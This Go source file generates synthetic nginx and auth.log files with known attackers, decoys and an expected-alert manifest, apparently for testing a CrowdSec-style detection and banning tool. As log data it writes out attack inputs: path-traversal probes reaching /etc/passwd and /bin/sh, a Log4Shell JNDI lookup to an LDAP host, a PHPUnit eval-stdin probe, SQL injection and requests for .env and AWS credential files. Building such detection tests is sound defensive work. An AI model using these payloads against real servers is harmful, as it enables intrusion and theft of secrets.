// Package corpus writes realistic, seeded, deterministic nginx access logs
// and auth.log files with known attackers of every shipped scenario, benign
// traffic (IPv4 and IPv6), near-threshold decoys, the operator's own
// address attacking (whitelisted) and malformed lines, together with the
// exact set of (address, scenario) alerts a replay must produce.
package corpus

import (
	"bufio"
	"cmp"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"time"
)

// Options size and seed a corpus.
type Options struct {
	// Seed makes the corpus; the same seed writes the same bytes.
	Seed uint64
	// Start is the time of the first line.
	Start time.Time
	// NginxLines and AuthLines are the approximate sizes of the logs; the
	// scripted actors come on top of the benign background.
	NginxLines int
	AuthLines  int
}

// DefaultOptions is a small corpus for tests.
func DefaultOptions() Options {
	return Options{Seed: 1, Start: time.Date(2026, 11, 25, 10, 0, 0, 0, time.UTC), NginxLines: 20_000, AuthLines: 5_000}
}

// OperatorIP is the operator's own address; it attacks its own servers
// (tests, pentests) and must be whitelisted, never banned.
const OperatorIP = "203.0.113.10"

// Alert is one expected (address, scenario) alert.
type Alert struct {
	IP       string `json:"ip"`
	Scenario string `json:"scenario"`
}

// Manifest says what a corpus holds.
type Manifest struct {
	Seed       uint64    `json:"seed"`
	Start      time.Time `json:"start"`
	End        time.Time `json:"end"`
	NginxLines int       `json:"nginx_lines"`
	AuthLines  int       `json:"auth_lines"`
	// Expected is every (address, scenario) alert a replay must produce,
	// sorted; nothing else may be alerted.
	Expected []Alert `json:"expected"`
	// Decoys are addresses that come close to a threshold and must not be banned.
	Decoys []string `json:"decoys"`
	// Malformed counts the malformed lines written to each log.
	MalformedNginx int `json:"malformed_nginx"`
	MalformedAuth  int `json:"malformed_auth"`
}

// Scenario names, as the shipped scenario files name them.
const (
	sshBF       = "crowdsecurity/ssh-bf"
	sshSlowBF   = "crowdsecurity/ssh-slow-bf"
	crawl       = "crowdsecurity/http-crawl-non_statics"
	wordpress   = "crowdsecurity/http-bf-wordpress_bf"
	cve41773    = "crowdsecurity/http-cve-2021-41773"
	cve42013    = "crowdsecurity/http-cve-2021-42013"
	log4shell   = "crowdsecurity/apache_log4j2_cve-2021-44228"
	cve20179841 = "crowdsecurity/CVE-2017-9841"
	badUA       = "crowdsecurity/http-bad-user-agent"
	probing     = "crowdsecurity/http-probing"
	sensitive   = "crowdsecurity/http-sensitive-files"
	flood       = "portcullis/http-l7-flood"
)

// Write generates the corpus into dir: access.log, auth.log,
// manifest.json and profiles.yaml (the shipped profiles plus the operator
// address in the whitelist). The logs' modification time is the last
// line's time, so a replay infers the auth.log year from it.
func Write(dir string, opt Options) (Manifest, error) {
	g := newGen(opt)
	m := Manifest{Seed: opt.Seed, Start: opt.Start}
	g.script()
	if err := writeFile(filepath.Join(dir, "access.log"), func(w *bufio.Writer) error {
		n, end, err := g.writeNginx(w, opt.NginxLines)
		m.NginxLines = n
		m.End = later(m.End, end)
		return err
	}); err != nil {
		return m, err
	}
	if err := writeFile(filepath.Join(dir, "auth.log"), func(w *bufio.Writer) error {
		n, end, err := g.writeAuth(w, opt.AuthLines)
		m.AuthLines = n
		m.End = later(m.End, end)
		return err
	}); err != nil {
		return m, err
	}
	m.Expected = g.expected()
	m.Decoys = g.decoys
	m.MalformedNginx, m.MalformedAuth = g.malformedNginx, g.malformedAuth
	for _, f := range []string{"access.log", "auth.log"} {
		if err := os.Chtimes(filepath.Join(dir, f), m.End, m.End); err != nil {
			return m, fmt.Errorf("set time of %s: %w", f, err)
		}
	}
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		return m, fmt.Errorf("encode manifest: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "manifest.json"), append(b, '\n'), 0o644); err != nil {
		return m, fmt.Errorf("write manifest: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "profiles.yaml"), []byte(profilesYAML), 0o644); err != nil {
		return m, fmt.Errorf("write profiles: %w", err)
	}
	return m, nil
}

// profilesYAML is the shipped defaults with the operator whitelisted.
const profilesYAML = `# Written by the corpus generator: shipped defaults, operator whitelisted.
default: {type: ban, duration: 4h, simulated: false}
whitelist:
  - 127.0.0.0/8
  - ::1
  - ` + OperatorIP + `
`

func later(a, b time.Time) time.Time {
	if b.After(a) {
		return b
	}
	return a
}

func writeFile(path string, fill func(*bufio.Writer) error) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("create %s: %w", path, err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	err = fill(w)
	if err == nil {
		err = w.Flush()
	}
	if err != nil {
		_ = f.Close() // the write error is the one to report
		return fmt.Errorf("write %s: %w", path, err)
	}
	if err := f.Close(); err != nil {
		return fmt.Errorf("close %s: %w", path, err)
	}
	return nil
}

// scripted is one line of a scripted actor (attacker, decoy, operator).
type scripted struct {
	t    time.Time
	seq  int // keeps the script's order among lines of the same second
	text string
}

type gen struct {
	opt            Options
	rnd            *rand.Rand
	nginx, auth    []scripted
	want           map[Alert]bool
	decoys         []string
	malformedNginx int
	malformedAuth  int
	clients        []string // benign client addresses
	seq            int
}

func newGen(opt Options) *gen {
	g := &gen{opt: opt, rnd: rand.New(rand.NewPCG(opt.Seed, opt.Seed^0x9e3779b97f4a7c15)), want: map[Alert]bool{}}
	// Benign clients: the benchmarking range 198.18.0.0/15 and 2001:db8:60::/43
	// (a fifth IPv6); decoys use 192.0.2.0/24 so they never share a bucket.
	for i := range 4000 {
		if i%5 == 0 {
			g.clients = append(g.clients, fmt.Sprintf("2001:db8:%x:%x::%x", 100+i/256, i%256, 1+g.rnd.IntN(0xfff)))
		} else {
			g.clients = append(g.clients, fmt.Sprintf("198.%d.%d.%d", 18+i%2, i/250, 1+i%250))
		}
	}
	return g
}

func (g *gen) expect(ip string, scenarios ...string) {
	for _, s := range scenarios {
		g.want[Alert{IP: ip, Scenario: s}] = true
	}
}

func (g *gen) expected() []Alert {
	out := make([]Alert, 0, len(g.want))
	for a := range g.want {
		out = append(out, a)
	}
	slices.SortFunc(out, func(a, b Alert) int {
		return cmp.Or(cmp.Compare(a.IP, b.IP), cmp.Compare(a.Scenario, b.Scenario))
	})
	return out
}

func (g *gen) at(d time.Duration) time.Time { return g.opt.Start.Add(d) }

// http adds a scripted access-log line.
func (g *gen) http(t time.Time, ip, method, path string, status int, ua string) {
	g.seq++
	g.nginx = append(g.nginx, scripted{t: t, seq: g.seq, text: string(accessLine(nil, ip, t, method, path, status, 512, "-", ua))})
}

// ssh adds a scripted auth.log line.
func (g *gen) ssh(t time.Time, msg string) {
	g.seq++
	g.auth = append(g.auth, scripted{t: t, seq: g.seq, text: string(authLine(nil, t, "web-1", "sshd", 2000+g.seq%30000, msg))})
}

const browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

// script lays out every attacker, decoy and the operator, minutes apart
// so no two of them share a bucket.
func (g *gen) script() {
	min := func(m int) time.Duration { return time.Duration(m) * time.Minute }
	sec := func(s int) time.Duration { return time.Duration(s) * time.Second }

	// --- SSH ---
	// Fast brute force: 8 failures a second apart.
	for i := range 8 {
		g.ssh(g.at(min(2)+sec(i)), fmt.Sprintf("Failed password for root from 185.220.101.5 port %d ssh2", 40000+i))
	}
	g.expect("185.220.101.5", sshBF)
	// IPv6 brute force over invalid users, long enough for ssh-slow-bf too.
	for i := range 30 {
		t := g.at(min(5) + sec(i))
		u := []string{"admin", "oracle", "test user", "pi"}[i%4]
		g.ssh(t, fmt.Sprintf("Invalid user %s from 2001:db8:bad::5 port %d", u, 50000+i))
		g.ssh(t, fmt.Sprintf("Failed password for invalid user %s from 2001:db8:bad::5 port %d ssh2", u, 50000+i))
		g.ssh(t, fmt.Sprintf("Connection closed by invalid user %s 2001:db8:bad::5 port %d [preauth]", u, 50000+i))
	}
	g.expect("2001:db8:bad::5", sshBF, sshSlowBF)
	// Slow brute force: one guess every 30 s for 15 minutes.
	for i := range 30 {
		g.ssh(g.at(min(10)+sec(30*i)), fmt.Sprintf("Failed password for ubuntu from 91.240.118.22 port %d ssh2", 30000+i))
	}
	g.expect("91.240.118.22", sshSlowBF)
	// Key spraying: sshd gives up five times in a burst.
	for i := range 5 {
		g.ssh(g.at(min(30)+sec(i)), fmt.Sprintf("error: maximum authentication attempts exceeded for root from 61.177.172.13 port %d ssh2 [preauth]", 22000+i))
		g.ssh(g.at(min(30)+sec(i)), fmt.Sprintf("Disconnecting authenticating user root 61.177.172.13 port %d: Too many authentication failures [preauth]", 22000+i))
	}
	// Each give-up writes two lines, both counted: 10 events.
	g.expect("61.177.172.13", sshBF)
	// Decoy: four failures in the same second, then a success.
	for i := range 4 {
		g.ssh(g.at(min(33)), fmt.Sprintf("Failed password for alice from 192.0.2.7 port %d ssh2", 1000+i))
	}
	g.ssh(g.at(min(33)+sec(2)), "Accepted password for alice from 192.0.2.7 port 1004 ssh2")
	// Decoy (IPv6): four failures spread over a minute, twice, an hour apart.
	for rep := range 2 {
		for i := range 4 {
			g.ssh(g.at(min(35+60*rep)+sec(15*i)), fmt.Sprintf("Failed password for bob from 2001:db8:100::42 port %d ssh2", 2000+i))
		}
	}
	g.decoys = append(g.decoys, "192.0.2.7", "2001:db8:100::42")
	// The operator brute-forces its own server: whitelisted.
	for i := range 20 {
		g.ssh(g.at(min(40)+sec(i)), fmt.Sprintf("Failed password for root from %s port %d ssh2", OperatorIP, 3000+i))
	}

	// --- HTTP ---
	// Crawler: 200 distinct pages, 20 a second.
	for i := range 200 {
		g.http(g.at(min(3)+sec(i/20)), "45.33.32.156", "GET", fmt.Sprintf("/catalog/item-%d", i), 200, "Mozilla/5.0 (compatible; SiteSucker)")
	}
	g.expect("45.33.32.156", crawl)
	// Decoy: 49 distinct pages in one second; another 49 over 10 s.
	for i := range 49 {
		g.http(g.at(min(4)), "192.0.2.5", "GET", fmt.Sprintf("/docs/page-%d", i), 200, browserUA)
		g.http(g.at(min(6)+sec(i/5)), "2001:db8:101::49", "GET", fmt.Sprintf("/docs/page-%d", i), 200, browserUA)
	}
	g.decoys = append(g.decoys, "192.0.2.5", "2001:db8:101::49")
	// WordPress brute force: 20 failed logins, one a second.
	for i := range 20 {
		g.http(g.at(min(8)+sec(i)), "203.0.113.100", "POST", "/wp-login.php", 200, browserUA)
	}
	g.expect("203.0.113.100", wordpress)
	// The seed's own example of it comes from a private address, which the
	// default whitelist (RFC 1918) keeps from ever being banned.
	for i := range 20 {
		g.http(g.at(min(8)+sec(i)), "192.168.1.100", "POST", "/wp-login.php", 200, browserUA)
	}
	g.decoys = append(g.decoys, "192.168.1.100")
	// Decoy: 9 failures in one second, then a successful login.
	for range 9 {
		g.http(g.at(min(9)), "192.0.2.9", "POST", "/wp-login.php", 200, browserUA)
	}
	g.http(g.at(min(9)+sec(1)), "192.0.2.9", "POST", "/wp-login.php", 302, browserUA)
	g.decoys = append(g.decoys, "192.0.2.9")
	// CVE probes, one request each.
	g.http(g.at(min(12)), "91.242.217.18", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/7.88.1")
	g.expect("91.242.217.18", cve41773)
	g.http(g.at(min(13)), "2001:db8:bad::13", "POST", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh", 400, "Mozilla/5.0")
	g.expect("2001:db8:bad::13", cve42013)
	g.http(g.at(min(14)), "194.26.29.44", "GET", "/", 200, "${jndi:ldap://194.26.29.44:1389/Exploit}")
	g.http(g.at(min(14)+sec(30)), "194.26.29.45", "GET", "/?q=%24%7Bjndi:dns://x.example/a%7D", 200, browserUA)
	g.expect("194.26.29.44", log4shell)
	g.expect("194.26.29.45", log4shell)
	g.http(g.at(min(15)), "80.94.95.81", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Go-http-client/1.1")
	g.expect("80.94.95.81", cve20179841)
	// Decoys that look like the probes but are not.
	g.http(g.at(min(16)), "192.0.2.16", "GET", "/search?q=%2e%2e", 200, browserUA)
	g.http(g.at(min(16)), "192.0.2.16", "GET", "/docs/phpunit/index.html", 200, "Mozilla/5.0 ${app.version}")
	g.decoys = append(g.decoys, "192.0.2.16")
	// Bad user agents, on sight.
	for i := range 3 {
		g.http(g.at(min(17)+sec(i)), "103.152.118.24", "GET", "/index.php?id=1'", 500, "sqlmap/1.7.2#stable (https://sqlmap.org)")
	}
	g.expect("103.152.118.24", badUA)
	g.http(g.at(min(18)), "2001:db8:bad::18", "GET", "/", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)")
	g.expect("2001:db8:bad::18", badUA)
	g.http(g.at(min(19)), "162.142.125.9", "GET", "/", 400, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")
	g.expect("162.142.125.9", badUA)
	// Probing: 20 distinct missing pages, four a second.
	for i := range 20 {
		g.http(g.at(min(20)+sec(i/4)), "5.188.62.140", "GET", fmt.Sprintf("/old/admin-%d.php", i), 404, browserUA)
	}
	g.expect("5.188.62.140", probing)
	// Decoy: 10 distinct missing pages in one second.
	for i := range 10 {
		g.http(g.at(min(21)), "192.0.2.21", "GET", fmt.Sprintf("/broken-link-%d", i), 404, browserUA)
	}
	g.decoys = append(g.decoys, "192.0.2.21")
	// Sensitive files: five secrets, one a second.
	for i, p := range []string{"/.env", "/.git/config", "/wp-config.php.bak", "/.aws/credentials", "/backup.sql"} {
		g.http(g.at(min(22)+sec(i)), "2001:db8:bad::22", "GET", p, 404, "Mozilla/5.0 (compatible)")
	}
	g.expect("2001:db8:bad::22", sensitive)
	// Decoy: two of them.
	g.http(g.at(min(23)), "192.0.2.23", "GET", "/.env", 404, browserUA)
	g.http(g.at(min(23)), "192.0.2.23", "GET", "/.git/config", 404, browserUA)
	g.decoys = append(g.decoys, "192.0.2.23")
	// L7 flood from IPv6: 3000 requests at 500 a second over two paths.
	for i := range 3000 {
		g.http(g.at(min(24)+sec(i/500)), "2001:db8:beef::10", "GET", []string{"/", "/api/search"}[i%2], 200, "Mozilla/5.0")
	}
	g.expect("2001:db8:beef::10", flood)
	// Decoy: 999 requests in one second.
	for range 999 {
		g.http(g.at(min(26)), "192.0.2.26", "GET", "/", 200, browserUA)
	}
	g.decoys = append(g.decoys, "192.0.2.26")
	// The operator scans its own site with sqlmap and reads its .env: whitelisted.
	for i := range 5 {
		g.http(g.at(min(27)+sec(i)), OperatorIP, "GET", "/.env", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)")
	}
	g.http(g.at(min(27)), OperatorIP, "GET", "/cgi-bin/.%2e/.%2e/etc/passwd", 400, "curl/8.5.0")

	sortScript(g.nginx)
	sortScript(g.auth)
}

func sortScript(s []scripted) {
	slices.SortStableFunc(s, func(a, b scripted) int {
		return cmp.Or(a.t.Compare(b.t), cmp.Compare(a.seq, b.seq))
	})
}

var (
	pages   = []string{"/", "/index.html", "/about", "/blog", "/blog/post-%d", "/products/%d", "/search?q=item%d", "/contact", "/api/v1/items/%d", "/cart", "/login"}
	statics = []string{"/static/app.js", "/static/site.css", "/img/logo.png", "/img/photo-%d.jpg", "/favicon.ico", "/fonts/inter.woff2"}
	agents  = []string{
		browserUA,
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"curl/8.5.0",
	}
	referers = []string{"-", "-", "https://www.google.com/", "https://example.com/blog", "https://news.example.net/item?id=42"}
)

// writeNginx writes about n benign lines merged in time order with the
// scripted ones, plus a malformed line now and then.
func (g *gen) writeNginx(w *bufio.Writer, n int) (int, time.Time, error) {
	// The benign background spans the script's hour.
	span := time.Hour
	step := span / time.Duration(max(n, 1))
	var buf []byte
	t := g.opt.Start
	si := 0
	lines := 0
	for i := 0; i < n || si < len(g.nginx); i++ {
		if i < n {
			t = g.opt.Start.Add(time.Duration(i) * step).Truncate(time.Second)
		} else {
			t = g.opt.Start.Add(span + time.Hour)
		}
		for si < len(g.nginx) && !g.nginx[si].t.After(t) {
			if _, err := io.WriteString(w, g.nginx[si].text); err != nil {
				return lines, t, err
			}
			lines++
			si++
		}
		if i >= n {
			continue
		}
		buf = buf[:0]
		if g.rnd.IntN(5000) == 0 {
			buf = append(buf, malformed[g.rnd.IntN(len(malformed))]...)
			g.malformedNginx++
		} else {
			buf = g.benignRequest(buf, t)
		}
		if _, err := w.Write(buf); err != nil {
			return lines, t, err
		}
		lines++
	}
	last := t
	if len(g.nginx) > 0 {
		last = later(last, g.nginx[len(g.nginx)-1].t)
	}
	return lines, last, nil
}

var malformed = []string{
	"\n",
	"198.18.0.1 - - [25/Nov/2026:10:00:05 +0000] \"GET / HTTP/1.1\n",
	"not a log line at all\n",
	"\x00\x01\x02 binary junk \xff\xfe\n",
	"999.18.0.1 - - [25/Nov/2026:10:00:05 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"\n",
}

func (g *gen) benignRequest(b []byte, t time.Time) []byte {
	// A few clients are busy, most are not (square of a uniform draw).
	x := g.rnd.Float64()
	ip := g.clients[int(x*x*float64(len(g.clients)))]
	var path string
	status := 200
	if g.rnd.IntN(3) == 0 {
		path = statics[g.rnd.IntN(len(statics))]
		if g.rnd.IntN(4) == 0 {
			status = 304
		}
	} else {
		path = pages[g.rnd.IntN(len(pages))]
		if g.rnd.IntN(200) == 0 {
			status = 404
		}
	}
	if i := indexVerb(path); i >= 0 {
		path = path[:i] + strconv.Itoa(g.rnd.IntN(500)) + path[i+2:]
	}
	method := "GET"
	if path == "/login" && g.rnd.IntN(2) == 0 {
		method, status = "POST", 302
	}
	return accessLine(b, ip, t, method, path, status, 200+g.rnd.IntN(50000),
		referers[g.rnd.IntN(len(referers))], agents[g.rnd.IntN(len(agents))])
}

func indexVerb(s string) int {
	for i := 0; i+1 < len(s); i++ {
		if s[i] == '%' && s[i+1] == 'd' {
			return i
		}
	}
	return -1
}

// accessLine appends one combined-format line.
func accessLine(b []byte, ip string, t time.Time, method, path string, status, size int, ref, ua string) []byte {
	b = append(b, ip...)
	b = append(b, " - - ["...)
	b = t.UTC().AppendFormat(b, "02/Jan/2006:15:04:05 -0700")
	b = append(b, "] \""...)
	b = append(b, method...)
	b = append(b, ' ')
	b = append(b, path...)
	b = append(b, " HTTP/1.1\" "...)
	b = strconv.AppendInt(b, int64(status), 10)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(size), 10)
	b = append(b, " \""...)
	b = append(b, ref...)
	b = append(b, "\" \""...)
	b = append(b, ua...)
	b = append(b, "\"\n"...)
	return b
}

// authLine appends one RFC 3164 auth.log line.
func authLine(b []byte, t time.Time, host, prog string, pid int, msg string) []byte {
	b = t.UTC().AppendFormat(b, time.Stamp)
	b = append(b, ' ')
	b = append(b, host...)
	b = append(b, ' ')
	b = append(b, prog...)
	b = append(b, '[')
	b = strconv.AppendInt(b, int64(pid), 10)
	b = append(b, "]: "...)
	b = append(b, msg...)
	return append(b, '\n')
}

// writeAuth writes about n benign auth.log lines merged with the script.
func (g *gen) writeAuth(w *bufio.Writer, n int) (int, time.Time, error) {
	span := time.Hour + 30*time.Minute
	step := span / time.Duration(max(n, 1))
	var buf []byte
	var t time.Time
	si := 0
	lines := 0
	for i := 0; i < n || si < len(g.auth); i++ {
		if i < n {
			t = g.opt.Start.Add(time.Duration(i) * step).Truncate(time.Second)
		} else {
			t = g.opt.Start.Add(span + time.Hour)
		}
		for si < len(g.auth) && !g.auth[si].t.After(t) {
			if _, err := io.WriteString(w, g.auth[si].text); err != nil {
				return lines, t, err
			}
			lines++
			si++
		}
		if i >= n {
			continue
		}
		buf = g.benignAuth(buf[:0], t, i)
		if _, err := w.Write(buf); err != nil {
			return lines, t, err
		}
		lines++
	}
	last := t
	if len(g.auth) > 0 {
		last = later(last, g.auth[len(g.auth)-1].t)
	}
	return lines, last, nil
}

// benignAuth writes background auth.log noise: cron, logins by key, and
// internet scanners that try once or twice and leave.
func (g *gen) benignAuth(b []byte, t time.Time, i int) []byte {
	pid := 1000 + g.rnd.IntN(60000)
	switch r := g.rnd.IntN(100); {
	case r < 40:
		return authLine(b, t, "web-1", "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)")
	case r < 55:
		ip := g.clients[g.rnd.IntN(len(g.clients))]
		return authLine(b, t, "web-1", "sshd", pid, "Accepted publickey for deploy from "+ip+" port "+strconv.Itoa(1024+g.rnd.IntN(60000))+" ssh2: ED25519 SHA256:Zm9vYmFy")
	case r < 70:
		return authLine(b, t, "web-1", "sshd", pid, "pam_unix(sshd:session): session closed for user deploy")
	case r < 71:
		g.malformedAuth++
		return append(b, "Nov 25 garbage without a clock\n"...)
	default:
		// A scanner address used once: one failure, or one failure and a
		// preauth close. Addresses never repeat, so no bucket fills.
		ip := fmt.Sprintf("100.%d.%d.%d", 64+i/65536%64, i/256%256, i%256)
		if g.rnd.IntN(2) == 0 {
			return authLine(b, t, "web-1", "sshd", pid, "Failed password for invalid user admin from "+ip+" port "+strconv.Itoa(1024+g.rnd.IntN(60000))+" ssh2")
		}
		return authLine(b, t, "web-1", "sshd", pid, "Connection closed by "+ip+" port "+strconv.Itoa(1024+g.rnd.IntN(60000))+" [preauth]")
	}
}
